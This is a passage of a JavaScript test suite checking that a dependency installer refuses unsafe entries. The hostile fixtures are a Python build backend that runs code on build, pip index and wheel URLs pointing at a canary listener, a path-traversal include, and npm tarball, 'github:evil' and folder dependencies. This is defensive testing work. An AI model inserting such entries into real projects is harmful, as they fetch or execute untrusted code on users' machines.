      const backend = `import os\nopen(${JSON.stringify(marker)}, "w").write("pwned")\ndef build_wheel(*a, **k): raise SystemExit(1)\n`;
      const projectDir = await refused(
        {
          'requirements.txt': './pkg\n',
          'pkg/pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
          'pkg/backend.py': backend,
        },
        pipRegistries(),
        /^requirements\.txt:1 \.\/pkg$/,
      );
      await assert.rejects(fs.access(path.join(projectDir, '.venv')), 'nothing was installed');
    });

    it('an index option line pointing at a host listener: refused', async () => {
      await refused({ 'requirements.txt': `tinyslug\n--index-url ${canaryUrl()}/simple\n` }, pipRegistries(), /^requirements\.txt:2 --index-url/);
    });

    it('a direct reference and an included file outside the project: refused', async () => {
      await refused(
        { 'requirements.txt': `x @ ${canaryUrl()}/x.whl\n-r ../../etc/reqs.txt\n` },
        pipRegistries(),
        /requirements\.txt:1 x @ .*\nrequirements\.txt:2 -r \.\.\/\.\.\/etc\/reqs\.txt/,
      );
    });

    it('an npm dependency as a tarball URL, a git repository and a folder: refused', async () => {
      await refused(
        { 'package.json': JSON.stringify({ dependencies: { a: `${canaryUrl()}/a.tgz`, b: 'github:evil/b', c: 'file:../c' } }, null, 2) },
        npmRegistries(),
        /package\.json:3 dependencies\.a.*\npackage\.json:4 dependencies\.b.*\npackage\.json:5 dependencies\.c/,
      );
    });

    it('a lockfile resolving from a host listener: refused', async () => {
      const lock = { lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', resolved: `${canaryUrl()}/a.tgz` } } };
      await refused(
        { 'package.json': JSON.stringify({ dependencies: { a: '^1.0.0' } }), 'package-lock.json': JSON.stringify(lock, null, 2) },
        npmRegistries(),
        /package-lock\.json:4 node_modules\/a: resolved .*/,
      );
    });
  });
});
